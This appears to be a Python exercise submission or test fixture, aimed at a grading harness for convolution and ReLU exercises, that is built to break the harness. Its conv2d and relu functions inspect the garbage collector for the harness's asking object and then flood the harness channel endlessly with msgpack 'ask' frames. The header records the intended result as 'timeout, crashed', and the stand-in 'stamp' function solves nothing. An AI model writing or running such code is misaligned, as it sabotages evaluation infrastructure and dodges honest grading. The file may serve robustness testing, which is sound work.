"""Asks the reference question after question, while the file is imported and while a call runs."""
# Proof: timeout, crashed

import gc
import threading

import msgspec
from accomplice import channel


def questions(count):
    ask = {"type": "ask", "exercise": "conv", "function": "stamp", "args": [1], "kwargs": {}}
    frame = msgspec.msgpack.encode(ask)
    return (len(frame).to_bytes(4, "big") + frame) * count


def flood():
    way = channel()
    threading.Thread(target=lambda: [way.recv(2**16) for _ in iter(int, 1)], daemon=True).start()
    while True:
        way.sendall(questions(1000))


def conv2d(*args, **kwargs):
    asking = [each for each in gc.get_objects() if type(each).__name__ == "AskingFunctions"]
    if asking and asking[0]._given:
        flood()
    return stamp


def relu(*args, **kwargs):
    flood()  # nothing was given to this call


def stamp(*args, **kwargs):
    return None


def feature_maps(*args, **kwargs):
    return conv2d, stamp
